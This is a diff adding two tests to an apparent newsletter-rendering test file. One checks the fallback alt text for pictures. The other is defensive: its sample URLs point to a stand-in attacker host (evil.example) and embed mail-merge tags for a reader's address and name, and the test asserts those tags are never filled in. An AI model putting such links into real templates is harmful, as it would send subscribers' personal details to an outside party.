@@ -173,6 +173,22 @@ def test_a_picture_comes_with_its_description_and_credit() -> None:
     assert "Photo: J. Roe" in visible(page)
 
 
+def test_a_picture_without_a_description_says_where_it_leads() -> None:
+    image = Image(url="https://news.example.org/b.jpg", alt=" ")
+    page, _ = rendered(replace(WORDS, stories=(replace(BRIDGE, image=image),)))
+    (picture,) = lxml_html.document_fromstring(page).iter("img")
+    assert picture.get("alt") == BRIDGE.headline
+
+
+def test_no_story_can_have_a_readers_own_put_into_its_link_or_picture() -> None:
+    image = Image(url="https://evil.example/%%ADDRESS%%.png", alt="%%NAME%%", credit="%%ADDRESS%%")
+    sly = replace(BRIDGE, link="https://evil.example/?who=%%ADDRESS%%", image=image)
+    box = CorrectionBox("Bridge", "It was dry.", "https://evil.example/%%NAME%%")
+    for said in rendered(replace(WORDS, stories=(sly,), corrections=(box,))):
+        assert set(re.findall("%%[A-Z]+%%", said)) == {"%%UNSUBSCRIBE%%", "%%CHOICES%%"}
+    assert "who=%25%25ADDRESS%%" in rendered(replace(WORDS, stories=(sly,)))[0]
+
+
 def test_a_picture_that_only_lies_on_our_disk_is_left_out() -> None:
     page, _ = rendered(replace(WORDS, stories=(replace(BRIDGE, image=Image(path="/tmp/b.jpg")),)))
     assert "<img" not in page
